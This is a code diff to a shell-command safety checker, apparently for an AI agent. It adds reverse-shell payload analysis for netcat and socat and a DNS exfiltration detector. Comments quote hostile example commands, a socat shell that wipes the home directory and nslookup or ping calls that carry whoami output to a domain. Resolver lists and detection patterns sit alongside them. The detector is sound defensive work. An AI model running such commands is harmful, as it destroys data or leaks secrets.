@@ -22,7 +22,7 @@ from aintern_ls.safety.registry import (
     skip_options,
     ssh_config_options,
 )
-from aintern_ls.safety.words import Word, names
+from aintern_ls.safety.words import ORIGIN_SUBST, Word, names
 
 # --- network, downloads, exfiltration ---------------------------------------------------
 
@@ -266,6 +266,7 @@ def _netcat(cmd: Cmd) -> None:
         r"\b(exec|system):", text, re.I
     ):
         cmd.add(C, "reverse-shell", f"{cmd.name} connects a shell to the network")
+        _netcat_program(cmd)
         return
     if cmd.stdin.secret:
         cmd.add(C, "exfiltration", f"sends private keys or credentials with {cmd.name}")
@@ -275,6 +276,28 @@ def _netcat(cmd: Cmd) -> None:
         return
     cmd.info.network_fetch = not cmd.short("l")
     cmd.add(M, "network", f"{cmd.name} opens a network connection")
+
+
+_SOCAT_EXEC = re.compile(r"\A(?:exec|system):(.*)", re.I | re.S)
+
+
+def _netcat_program(cmd: Cmd) -> None:
+    """The program a netcat runs for its peer (`ncat -c CMD`, `nc -e PROG`, socat
+    `EXEC:CMD`/`SYSTEM:CMD`) is also run here: when it is destructive it is judged as such
+    (`socat - EXEC:'rm -rf ~'` wipes home before anyone connects to anything)."""
+    values: list[Word] = []
+    for i, w in enumerate(cmd.args):
+        m = _SOCAT_EXEC.match(w.text) if cmd.name == "socat" else None
+        if m is not None:
+            values.append(Word(m.group(1).split(",", 1)[0], w.start, w.end, w.dynamic))
+        elif w.text in ("-e", "-c", "--exec", "--sh-exec") and i + 1 < len(cmd.args):
+            values.append(cmd.args[i + 1])
+    for v in values:
+        if v.dynamic or not v.text.strip():
+            continue
+        found = cmd.scope.nested(v.text, "bash", v, -1)
+        if max((f.level for f in found), default=M) >= D:
+            cmd.scope.include(found)
 
 
 _SOCAT_FILE = re.compile(r"\A(?:file|open|gopen):", re.I)
@@ -534,3 +557,76 @@ def _backup(cmd: Cmd) -> None:
         cmd.add(M, "network", f"{cmd.name} uploads a backup to another host")
         return
     cmd.add(M, "write", f"{cmd.name} {sub} reads or writes a backup repository")
+
+
+# --- DNS exfiltration, every resolver in every shell (safety-p5) -------------------------
+# A name looked up carries its labels to whoever runs that domain's name server: a name
+# built from a command's output (`nslookup "$(whoami).x.example"`, cmd's `for /f … do
+# ping %a.x.example`, PowerShell `"$($k.Substring(0,40)).x.example"`) or from a run-time
+# value put in front of a public domain sends that value out. Every resolver and every
+# program that resolves a name it is given counts.
+RESOLVERS = frozenset(
+    names(
+        """
+        nslookup dig drill host kdig delv doggo dog adnshost avahi-resolve
+        avahi-resolve-host-name nmblookup resolvectl systemd-resolve getent ping ping6 fping
+        hping3 traceroute traceroute6 tracepath tracert pathping mtr whois resolve-dnsname
+        test-connection test-netconnection
+        """
+    )
+)
+_INTERNAL_SUFFIX = r"(?:local|lan|internal|intranet|localdomain|home|corp|ad|localhost|test)"
+_RUNTIME_NAME = re.compile(r"[$%][^\s]*\.[\w-]+\.(?!" + _INTERNAL_SUFFIX + r"\.?$)[A-Za-z]{2,}\.?$")
+
+
+def dns_exfiltration(cmd: Cmd) -> bool:
+    """Add the exfiltration finding when a resolver is handed a name (or a ping payload)
+    holding a command's output or a run-time value in front of a public domain."""
+    if cmd.name not in RESOLVERS:
+        return False
+    src = cmd.scope.source
+    for w in cmd.args:
+        raw = src[max(w.start, 0) : max(w.end, 0)]
+        if not w.dynamic and "$(" not in raw and "`" not in raw:
+            continue
+        substituted = (
+            "$(" in raw or ("`" in raw and cmd.scope.family == "bash") or w.origin == ORIGIN_SUBST
+        )
+        if substituted or _RUNTIME_NAME.search(w.text):
+            cmd.add(
+                C,
+                "exfiltration",
+                f"{cmd.name} puts a command's output or a run-time value in a DNS name"
+                " (exfiltration)",
+                w,
+            )
+            return True
+    return False
+
+
+@handles(
+    *names(
+        """
+        drill kdig delv doggo dog adnshost avahi-resolve avahi-resolve-host-name nmblookup
+        resolvectl systemd-resolve fping traceroute6
+        """
+    )
+)
+def _resolver(cmd: Cmd) -> None:
+    """DNS clients: a lookup reads; a name carrying a command's output is exfiltration;
+    resolvectl's settings verbs change the resolver."""
+    if dns_exfiltration(cmd):
+        return
+    ops = [w.text for w in cmd.args if not w.text.startswith("-")]
+    if (
+        cmd.name in ("resolvectl", "systemd-resolve")
+        and ops
+        and ops[0]
+        in names(
+            """
+        dns domain default-route llmnr mdns dnssec dnsovertls nta revert flush-caches
+        reset-statistics reset-server-features log-level
+        """
+        )
+    ):
+        cmd.add(M, "network", f"{cmd.name} {ops[0]} changes the resolver's settings")
